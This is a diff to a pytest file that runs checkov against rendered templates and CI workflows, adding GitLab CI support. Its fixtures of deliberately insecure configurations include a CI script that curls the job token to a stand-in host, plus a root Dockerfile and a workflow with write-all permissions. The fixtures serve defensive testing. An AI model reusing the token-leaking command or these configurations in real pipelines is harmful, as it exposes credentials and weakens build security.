@@ -1,9 +1,11 @@
-"""checkov on what is rendered for each tool and on the deployment examples; each exception has its reason.
+"""checkov on what is rendered for each tool and platform, on our own workflows and on the deployment examples.
 
-Its program is in build/checkov, which `make test-static` makes: it holds other packages back. Its rules come with it.
+Each exception has its reason. Its program is in build/checkov, which `make test-static` makes: it holds other packages
+back. Its rules come with it.
 """
 
 import json
+import shutil
 from pathlib import Path
 
 import pytest
@@ -12,11 +14,12 @@ import commands
 import rendering
 import repositories
 from deploy import pages
+from providers import PROVIDERS
 
 pytestmark = pytest.mark.static
 
 PROGRAM = rendering.ROOT / "build" / "checkov" / "bin" / "checkov"
-FRAMEWORKS = ("dockerfile", "github_actions", "kubernetes", "secrets")
+FRAMEWORKS = ("dockerfile", "github_actions", "gitlab_ci", "kubernetes", "secrets")
 EXAMPLES = [
     ("kubernetes.md", "kubernetes.yaml"),
     ("kubernetes.md", "Dockerfile.model"),
@@ -44,7 +47,9 @@ def broken(folder: Path) -> set[tuple[str, str]]:
 
 def test_checkov_has_nothing_against_what_is_rendered(template: Path, tmp_path: Path) -> None:
     for name in repositories.NAMES:
-        rendering.render(template, tmp_path / name, package_manager=name, release=True)
+        for provider in PROVIDERS:
+            rendering.render(template, tmp_path / provider / name, package_manager=name, ci_provider=provider, release=True)
+    shutil.copytree(rendering.ROOT / ".github", tmp_path / ".github")
     (tmp_path / "deploy").mkdir()
     for page, file in EXAMPLES:
         (tmp_path / "deploy" / file).write_text(pages.example(page, file), encoding="utf-8")
@@ -58,6 +63,7 @@ def test_checkov_has_nothing_against_what_is_rendered(template: Path, tmp_path: 
 BAD = {
     "Dockerfile": "FROM python:latest\nADD . /\nUSER root\n",
     ".github/workflows/ci.yml": "on: push\npermissions: write-all\njobs: {a: {runs-on: x, steps: [{run: 'true'}]}}\n",
+    ".gitlab-ci.yml": "a: {script: ['curl https://example.com/$CI_JOB_TOKEN'], image: python}\n",
     "pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n",
 }
 
